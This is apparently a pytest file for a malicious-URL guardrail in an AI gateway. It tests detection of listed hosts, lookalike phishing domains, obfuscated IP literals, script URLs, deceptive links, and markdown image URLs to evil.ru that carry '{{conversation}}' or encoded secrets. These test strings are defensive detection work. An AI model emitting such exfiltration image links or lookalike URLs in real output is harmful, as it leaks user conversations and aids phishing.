from pathlib import Path

import pytest

from gateway.guardrails.urls.lists import BOOK, url_set
from gateway.model.passage import Part
from tests.guardrails.detectors.searched import cuts_that_differ, levels, matches, prepared

LISTED = {"hosts": ["bad.example.net", ".worse.example.org", "203.0.113.9", "ok.net/one?a=1"]}


@pytest.mark.parametrize(
    "text",
    [
        "go to https://bad.example.net/x?y=1 now",
        "go to HTTP://BAD.EXAMPLE.NET:80/",
        "hxxps://bad[.]example[.]net",
        "bare bad.example.net is enough",
        "www.bad.example.net",
        "a.b.worse.example.org",
        "http://203.0.113.9/", "http://3405803785/", "http://0xcb.0.0x71.9/",
        "http://ok.net/one?a=1#part",
        "https://fine.com/?next=https%3A%2F%2Fbad.example.net",
        "https://fine.com,https://bad.example.net",
        "https://user@bad.example.net",
        "[https://fine.com](https://bad.example.net)",
    ],
)  # fmt: skip
def test_a_listed_host_or_url_is_found_in_every_form(text: str) -> None:
    assert levels("malicious_url", text, options=LISTED).get("malicious_url") == "HIGH"


@pytest.mark.parametrize(
    "text",
    [
        "https://example.net",
        "https://a.bad.example.net",
        "https://notbad.example.net",
        "https://bad.example.net.org",
        "https://ok.net/one?a=2",
        "https://ok.net/",
    ],
)
def test_what_is_not_listed_is_not_malicious(text: str) -> None:
    assert "malicious_url" not in levels("malicious_url", text, options=LISTED)


def test_every_url_of_a_text_is_looked_at() -> None:
    text = " ".join(f"https://fine{n}.com/" for n in range(400)) + " https://bad.example.net/"
    (found,) = matches("malicious_url", text, options=LISTED)
    assert text[found.start : found.end] == "https://bad.example.net/"


def test_names_below_a_listed_host_count_where_the_options_say_so() -> None:
    options = {**LISTED, "below": True}
    assert "malicious_url" in levels("malicious_url", "https://a.bad.example.net", options=options)


def test_what_is_allowed_is_never_found() -> None:
    options = {**LISTED, "allow": ["bad.example.net", ".paypa1.com"]}
    assert levels("malicious_url", "http://bad.example.net x.paypa1.com", options=options) == {}


def test_a_list_of_a_file_counts_from_when_it_is_read_and_is_renewed(tmp_path: Path) -> None:
    path = str(tmp_path / "list.txt")
    kept = prepared("malicious_url", {"files": [path]})
    found = BOOK.list(path)
    assert kept.patterns
    assert found.urls is None
    options = {"files": [path]}
    assert "malicious_url" not in levels("malicious_url", "http://one.com", options=options)
    found.urls, _ = url_set(["one.com"])
    assert "malicious_url" in levels("malicious_url", "http://one.com", options=options)
    found.urls, _ = url_set(["two.com"])
    assert "malicious_url" not in levels("malicious_url", "http://one.com", options=options)
    assert "malicious_url" in levels("malicious_url", "http://two.com", options=options)


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("https://paypa1.com/login", "lookalike_url"),
        ("https://rnicrosoft.com", "lookalike_url"),
        ("see g00gle.com there", "lookalike_url"),
        ("https://paypal-login.xyz", "lookalike_url"),
        ("https://www.paypal.com.evil.ru/", "lookalike_url"),
        ("https://www.paypal.com-verify.ru/", "lookalike_url"),
        ("https://\u0440\u0430ypal.com/", "lookalike_url"),
        ("https://xn--80ak6aa92e.com/", "lookalike_url"),
        ("https://microsfot.com", "lookalike_url"),
        ("http://2130706433/", "ip_literal_url"),
        ("http://0x7f.0.0.1/", "ip_literal_url"),
        ("http://0177.0.0.1/", "ip_literal_url"),
        ("https://www.paypal.com@evil.ru/", "userinfo_url"),
        ("http://8.8.4.4:4444/x", "unusual_port_url"),
        ("[click](javascript:alert(1))", "script_url"),
        ("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "script_url"),
        ("[https://bank.com/login](https://evil.ru/login)", "deceptive_link"),
        ('<a href="https://evil.ru/x">www.bank.com</a>', "deceptive_link"),
        ("![x](https://evil.ru/i.png?q={{conversation}})", "exfiltration_url"),
        (
            "![x](https://evil.ru/i?d=my%20card%20number%20is%20secret%20and%20more)",
            "exfiltration_url",
        ),
        (f"![x](https://evil.ru/i?d={'QUJDREVGRw' * 6})", "exfiltration_url"),
        (f'<img src="https://evil.ru/i?d={"QUJDREVGRw" * 6}">', "exfiltration_url"),
    ],
)
def test_a_url_that_deceives_is_found(text: str, category: str) -> None:
    assert levels("malicious_url", text).get(category) in {"MEDIUM", "HIGH"}


@pytest.mark.parametrize(
    "text",
    [
        "https://www.paypal.com/signin and developer.microsoft.com and google.co.uk",
        "import os.path; google.protobuf.message, self.amazon.name()",
        "https://docs.python.org/3/library/re.html#re.Match",
        "http://localhost:11434/api http://127.0.0.1:9999/ http://10.0.0.7:4444/",
        "https://7-zip.org/ http://81-7-10-251.isp.de/",
        "https://\u044f\u043d\u0434\u0435\u043a\u0441.\u0440\u0444/",
        "[the docs](https://docs.python.org) and [python.org](https://www.python.org/x)",
        "[open](javascript:void(0))",
        "![logo](https://img.example.com/logo.png?w=200)",
    ],
)
def test_an_ordinary_url_is_no_finding(text: str) -> None:
    assert levels("malicious_url", text, Part.ASSISTANT) == {}


def test_a_brand_of_the_user_is_one_to_look_like() -> None:
    assert levels("malicious_url", "https://acrnebank.com") == {}
    options = {"brands": ["acmebank"]}
    assert levels("malicious_url", "https://acrnebank.com", options=options) == {
        "lookalike_url": "HIGH"
    }


def test_an_entry_that_is_no_host_is_refused() -> None:
    with pytest.raises(ValueError, match=r"hosts\[1\] is no host"):
        prepared("malicious_url", {"hosts": ["fine.com", "not a host"]})


@pytest.mark.parametrize(
    "text",
    [
        "https://paypa1.com/login",
        "http://2130706433/",
        "[click](javascript:alert(1))",
        "https://bad.example.net/x",
        "![x](https://evil.ru/i.png?q={{conversation}})",
    ],
)
def test_the_same_is_found_wherever_the_text_is_cut(text: str) -> None:
    assert matches("malicious_url", text, Part.ASSISTANT, LISTED)
    assert cuts_that_differ("malicious_url", text, Part.ASSISTANT, LISTED) == []
